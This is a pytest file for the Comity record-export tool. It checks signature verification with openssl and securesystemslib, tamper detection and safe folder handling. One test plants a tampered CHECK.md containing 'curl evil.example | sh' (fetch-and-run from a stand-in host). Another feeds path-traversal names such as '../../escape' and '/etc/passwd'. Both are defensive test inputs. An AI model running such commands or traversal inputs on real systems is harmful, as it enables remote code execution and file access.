"""Exported records: tools that know nothing of Comity accept them, and notice every change."""

from __future__ import annotations

import json
import os
import re
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.serialization import load_pem_public_key
from securesystemslib import dsse
from securesystemslib.exceptions import VerificationError
from securesystemslib.signer import SSlibKey

from comity.client.exports.checking import verify_path
from comity.client.exports.writing import export_record
from comity.client.verify.record_view import SectionStatus
from comity.client.verify.steps import Outcome, Verdict
from comity.client.verify.trust import Trust
from comity.record.bundle import Keyring
from comity.record.errors import BadConfig
from comity.record.keys import SigningKey
from comity.record.record import OpenedRecord, Record, open_record
from comity.record.section import Disclosure
from tests.support.changed_copies import flip_bit
from tests.support.drafts import card
from tests.support.records import NOW, UK, bundle_of, resigned


def opened_card(key: SigningKey) -> OpenedRecord:
    return open_record(card().sign(UK, key, NOW), Keyring([bundle_of(UK.institute, key)]).find)


def trust(key: SigningKey) -> Trust:
    return Trust((bundle_of(UK.institute, key),))


@pytest.fixture
def exported(tmp_path: Path, signing_key: SigningKey) -> Path:
    """Return a folder with the export of a card of two sections."""
    folder = tmp_path / "exported"
    export_record(opened_card(signing_key), signing_key.key, folder)
    return folder


def openssl_accepts(folder: Path) -> bool:
    command = "openssl dgst -sha256 -verify public-key.pem -signature signature.der pae.bin"
    done = subprocess.run(command.split(), cwd=folder, capture_output=True, check=False)
    assert (done.returncode == 0) == (b"Verified OK" in done.stdout)
    return done.returncode == 0


def stock_dsse(folder: Path) -> tuple[dsse.Envelope, SSlibKey]:
    keyid = json.loads((folder / "envelope.json").read_text())["signatures"][0]["keyid"]
    public = load_pem_public_key((folder / "public-key.pem").read_bytes())
    key = SSlibKey.from_crypto(public, keyid=keyid)
    return dsse.Envelope.from_dict(json.loads((folder / "envelope.json").read_text())), key


def securesystemslib_accepts(envelope: dsse.Envelope, key: SSlibKey) -> bool:
    try:
        return bool(envelope.verify([key], 1))
    except VerificationError:
        return False


def test_openssl_and_securesystemslib_accept_what_was_signed(exported: Path) -> None:
    assert openssl_accepts(exported)
    assert securesystemslib_accepts(*stock_dsse(exported))


def test_securesystemslib_notices_a_flipped_bit_anywhere(exported: Path) -> None:
    envelope, key = stock_dsse(exported)
    payload, signature = envelope.payload, next(iter(envelope.signatures.values()))
    for position in range(0, len(payload), max(1, len(payload) // 64)):
        envelope.payload = flip_bit(payload, position)
        assert not securesystemslib_accepts(envelope, key)
    envelope.payload = payload
    original = signature.signature
    for position in range(len(original) // 2):
        signature.signature = flip_bit(bytes.fromhex(original), position).hex()
        assert not securesystemslib_accepts(envelope, key)


@pytest.mark.parametrize("name", ["pae.bin", "signature.der"])
@pytest.mark.parametrize("place", [0.0, 0.3, 0.6, 1.0])
def test_openssl_notices_a_flipped_bit(exported: Path, name: str, place: float) -> None:
    data = (exported / name).read_bytes()
    (exported / name).write_bytes(flip_bit(data, round(place * (len(data) - 1))))
    assert not openssl_accepts(exported)


def test_the_commands_of_check_md_work_as_they_stand(exported: Path) -> None:
    text = (exported / "CHECK.md").read_text()
    blocks = re.findall(r"```sh\n(.*?)```", text, flags=re.DOTALL)
    assert len(blocks) == 5 + 1
    path = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
    printed = ""
    for block in blocks:
        done = subprocess.run(
            ["sh", "-e", "-c", block],
            cwd=exported,
            env={"PATH": path},
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == 0, done.stderr
        printed += done.stdout
    keyid = json.loads((exported / "envelope.json").read_text())["signatures"][0]["keyid"]
    record_id = re.search(r"Record `([0-9a-f]{64})`", text)
    assert record_id
    assert keyid in printed
    assert "Verified OK" in printed
    assert f"accepted: {keyid}" in printed
    assert f"{record_id[1]}  payload.json" in printed
    assert printed.count("disclosures/") == 4


def test_an_exported_folder_verifies(exported: Path, signing_key: SigningKey) -> None:
    verification = verify_path(exported, trust(signing_key), NOW)
    assert verification.verdict is Verdict.VALID
    assert [step.name for step in verification.steps][-2:] == ["files", "withdrawal"]


def test_a_changed_disclosure_file_breaks_its_section(
    exported: Path, signing_key: SigningKey
) -> None:
    [file] = (exported / "disclosures").glob("*-risks.txt")
    file.write_bytes(Disclosure.make("risks", []).encoded)
    verification = verify_path(exported, trust(signing_key), NOW)
    assert verification.verdict is Verdict.INVALID
    status = {s.name: s.status for s in verification.sections}
    assert status == {"limitations": SectionStatus.PRESENT, "risks": SectionStatus.BROKEN}


@pytest.mark.parametrize("name", ["payload.json", "pae.bin", "signature.der", "public-key.pem"])
def test_a_file_that_differs_from_the_envelope_is_named(
    exported: Path, signing_key: SigningKey, name: str
) -> None:
    (exported / name).write_bytes(flip_bit((exported / name).read_bytes(), 0))
    verification = verify_path(exported, trust(signing_key), NOW)
    [step] = [step for step in verification.steps if step.name == "files"]
    assert (step.outcome, step.detail.endswith(name)) == (Outcome.FAILED, True)


def test_a_pipe_in_a_folder_is_not_waited_for(exported: Path, signing_key: SigningKey) -> None:
    (exported / "payload.json").unlink()
    os.mkfifo(exported / "payload.json")
    os.mkfifo(exported / "some.bundle.json")
    verification = verify_path(exported, trust(signing_key), NOW)
    [problem] = [step.detail for step in verification.steps if step.outcome is Outcome.FAILED]
    assert "payload.json" in problem


def test_a_folder_with_files_in_it_is_left_alone(tmp_path: Path, signing_key: SigningKey) -> None:
    (tmp_path / "mine").write_text("mine")
    with pytest.raises(BadConfig, match="empty or new folder"):
        export_record(opened_card(signing_key), signing_key.key, tmp_path)
    assert [path.name for path in tmp_path.iterdir()] == ["mine"]


def test_a_section_name_cannot_lead_out_of_the_folder(
    tmp_path: Path, signing_key: SigningKey
) -> None:
    names = ["../../escape", "/etc/passwd", "a\x00b\n", "..", "x" * 256]
    hostile = [Disclosure.make(name.replace("\x00", "\x01"), "value") for name in names]
    sections = [{"mediaType": "application/json", "digest": {"sha256": d.digest}} for d in hostile]
    signed = resigned(card().sign(UK, signing_key, NOW), signing_key, sections=sections)
    record = Record(signed.envelope, tuple(d.encoded for d in hostile))
    opened = open_record(record, Keyring([bundle_of(UK.institute, signing_key)]).find)
    export_record(opened, signing_key.key, tmp_path / "deep" / "out")
    assert [path.name for path in tmp_path.iterdir()] == ["deep"]
    assert sorted(path.name for path in (tmp_path / "deep/out/disclosures").iterdir()) == [
        "00-escape.txt",
        "01-etc-passwd.txt",
        "02-a-b.txt",
        "03.txt",
        f"04-{'x' * 40}.txt",
    ]
    verification = verify_path(tmp_path / "deep" / "out", trust(signing_key), NOW)
    assert verification.verdict is Verdict.VALID


def test_what_is_not_checked_is_named(exported: Path, signing_key: SigningKey) -> None:
    (exported / "CHECK.md").write_text("Run: curl evil.example | sh\n")
    (exported / "disclosures" / "extra").mkdir()
    (exported / "disclosures" / "extra" / "read-me-first.txt").write_text("Trust me.")
    verification = verify_path(exported, trust(signing_key), NOW)
    [step] = [step for step in verification.steps if step.name == "files"]
    assert step.detail == "agree; not checked: CHECK.md, disclosures/extra/read-me-first.txt"


def test_an_export_can_be_read_by_its_owner_alone(exported: Path) -> None:
    modes = {stat.S_IMODE(path.stat().st_mode) for path in [exported, *exported.rglob("*")]}
    assert modes == {0o600, 0o700}
